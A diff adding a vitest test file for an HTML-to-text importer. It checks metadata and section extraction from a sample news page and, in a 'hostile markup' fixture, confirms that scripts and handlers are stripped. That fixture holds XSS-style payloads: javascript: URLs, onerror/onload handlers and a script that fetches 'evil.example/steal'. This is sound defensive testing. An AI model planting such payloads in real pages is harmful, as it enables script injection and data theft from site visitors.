@@ -1,0 +1,174 @@
+// HTML import: a saved news page, a page full of scripts and handlers (only text comes out, and
+// never a script's content), entities, lists, quotes and the container choice.
+
+import { describe, expect, it } from 'vitest'
+
+import { htmlFragmentParagraphs, parseHtml } from './html'
+
+const NEWS_PAGE = `<!doctype html>
+<html lang="en">
+<head>
+  <meta charset="utf-8">
+  <title>PM Modi in Tokyo | Example News</title>
+  <meta property="og:title" content="PM Modi in Tokyo for the QUAD summit">
+  <meta property="og:site_name" content="Example News">
+  <meta name="author" content="Jane Doe">
+  <meta property="article:published_time" content="2022-05-23T08:15:00+05:30">
+  <meta name="keywords" content="India, Japan, QUAD">
+  <link rel="stylesheet" href="site.css">
+  <style>body { color: red }</style>
+  <script>window.dataLayer = [];</script>
+</head>
+<body>
+  <header class="site"><a href="/">Example News</a><h1 class="logo">Example News</h1></header>
+  <nav><ul><li><a href="/world">World</a></li><li><a href="/india">India</a></li></ul></nav>
+  <main>
+    <article>
+      <header>
+        <h1>PM Modi in Tokyo</h1>
+        <p class="byline">By Jane Doe · <time datetime="2022-05-23">23 May 2022</time></p>
+      </header>
+      <p>PM Modi is leaving for Tokyo&nbsp;to attend the   QUAD
+         Leaders Summit.</p>
+      <figure><img src="modi.jpg" alt="PM Modi"><figcaption>PM Modi in Delhi.</figcaption></figure>
+      <aside class="related"><h2>Related</h2><p>Other story</p></aside>
+      <h2>QUAD Summit</h2>
+      <p>Leaders will review initiatives &amp; talk trade.</p>
+      <blockquote><p>“For the 2+2 we are in discussions.”</p></blockquote>
+      <h2>Military Cooperation</h2>
+      <ul><li>MILAN 22 exercise</li><li><p>Supply agreement</p></li></ul>
+      <ol start="3"><li>third</li><li>fourth</li></ol>
+      <pre>line one
+  line two</pre>
+      <footer>Share this: <button>Twitter</button></footer>
+    </article>
+  </main>
+  <aside>Subscribe!</aside>
+  <footer>© Example News</footer>
+</body>
+</html>`
+
+describe('parseHtml on a saved news page', () => {
+  it('extracts the article, its metadata and sections', () => {
+    const doc = parseHtml(NEWS_PAGE, 'tokyo.html')
+    expect(doc).toEqual({
+      title: 'PM Modi in Tokyo',
+      source: 'Example News',
+      published: '2022-05-23',
+      tags: ['India', 'Japan', 'QUAD'],
+      lead: [
+        'By Jane Doe · 23 May 2022',
+        'PM Modi is leaving for Tokyo\u00a0to attend the QUAD Leaders Summit.',
+        'PM Modi in Delhi.'
+      ],
+      sections: [
+        {
+          heading: 'QUAD Summit',
+          paragraphs: [
+            'Leaders will review initiatives & talk trade.',
+            '> “For the 2+2 we are in discussions.”'
+          ]
+        },
+        {
+          heading: 'Military Cooperation',
+          paragraphs: [
+            '- MILAN 22 exercise',
+            '- Supply agreement',
+            '3. third',
+            '4. fourth',
+            'line one',
+            'line two'
+          ]
+        }
+      ]
+    })
+  })
+
+  it('falls back to og:title, then <title> without the site name, and to <time> for the date', () => {
+    const withOg = parseHtml(
+      '<title>Story | Example News</title><meta property="og:title" content="OG story">' +
+        '<meta property="og:site_name" content="Example News"><h1>One</h1><h1>Two</h1><p>x</p>',
+      'a.html'
+    )
+    expect(withOg.title).toBe('OG story')
+    const titleOnly = parseHtml(
+      '<title>Story | Example News</title><meta property="og:site_name" content="Example News">' +
+        '<article><p>Text <time datetime="2021-02-03T10:00">then</time>.</p></article>',
+      'b.html'
+    )
+    expect(titleOnly).toMatchObject({
+      title: 'Story',
+      source: 'Example News',
+      published: '2021-02-03'
+    })
+  })
+
+  it('reads JSON-LD as data for the source and date', () => {
+    const doc = parseHtml(
+      '<script type="application/ld+json">{"@context":"https://schema.org","@graph":[{"@type":' +
+        '"NewsArticle","datePublished":"2020-01-31","publisher":{"name":"Wire"}}]}</script><p>x</p>',
+      'ld.html'
+    )
+    expect(doc).toMatchObject({ source: 'Wire', published: '2020-01-31', lead: ['x'] })
+  })
+
+  it('uses h1 as sections when there are several, and h4–h6 as paragraphs', () => {
+    const doc = parseHtml(
+      '<body><h1>A</h1><p>a</p><h4>Minor</h4><p>m</p><h1>B</h1><p>b</p></body>',
+      'h.html'
+    )
+    expect(doc.sections).toEqual([
+      { heading: 'A', paragraphs: ['a', 'Minor', 'm'] },
+      { heading: 'B', paragraphs: ['b'] }
+    ])
+  })
+})
+
+describe('parseHtml on hostile markup', () => {
+  const HOSTILE = `<html><head>
+    <script>document.write('<h1>Injected</h1>'); fetch('https://evil.example/steal')</script>
+    <script src="https://evil.example/x.js"></script>
+    <meta http-equiv="refresh" content="0; url=javascript:alert(1)">
+  </head>
+  <body onload="alert('load')">
+    <p onclick="alert('click')">Click <a href="javascript:alert('link')">this link</a> now.</p>
+    <img src=x onerror="alert('img')">
+    <iframe src="https://evil.example/frame">Frame fallback</iframe>
+    <object data="x.swf">Object fallback</object>
+    <svg><script>alert('svg')</script><text>SVG text</text></svg>
+    <noscript><p>Enable JavaScript</p></noscript>
+    <template><p>Template content</p></template>
+    <style>p::after { content: "CSS text" }</style>
+    <div hidden>Hidden div</div><p style="display: none">Invisible</p>
+    <p>&lt;script&gt;alert('escaped')&lt;/script&gt; is text &amp; stays text.</p>
+    <form action="javascript:alert(1)"><button>Press</button><textarea>Typed</textarea></form>
+    <script>alert('end')</script>
+  </body></html>`
+
+  it('keeps only visible text; script content, handlers and URLs never appear', () => {
+    const doc = parseHtml(HOSTILE, 'hostile.html')
+    const all = [...doc.lead, ...doc.sections.flatMap((s) => [s.heading, ...s.paragraphs])]
+    expect(all).toEqual([
+      'Click this link now.',
+      "<script>alert('escaped')</script> is text & stays text."
+    ])
+    expect(doc.title).toBeUndefined()
+    expect(JSON.stringify(doc)).not.toMatch(/evil|onload|onclick|onerror|Injected|Frame|Hidden/)
+  })
+
+  it('survives deeply nested markup without recursion', () => {
+    const doc = parseHtml(`${'<div>'.repeat(20000)}deep${'</div>'.repeat(20000)}`, 'deep.html')
+    expect(doc.lead).toEqual(['deep'])
+  })
+})
+
+describe('htmlFragmentParagraphs', () => {
+  it('splits on blocks and double <br>, joining single <br> with a space', () => {
+    expect(htmlFragmentParagraphs('<p>a<br>b<br><br>c</p><h2>Head</h2><td>x</td>')).toEqual([
+      'a b',
+      'c',
+      'Head',
+      'x'
+    ])
+  })
+})
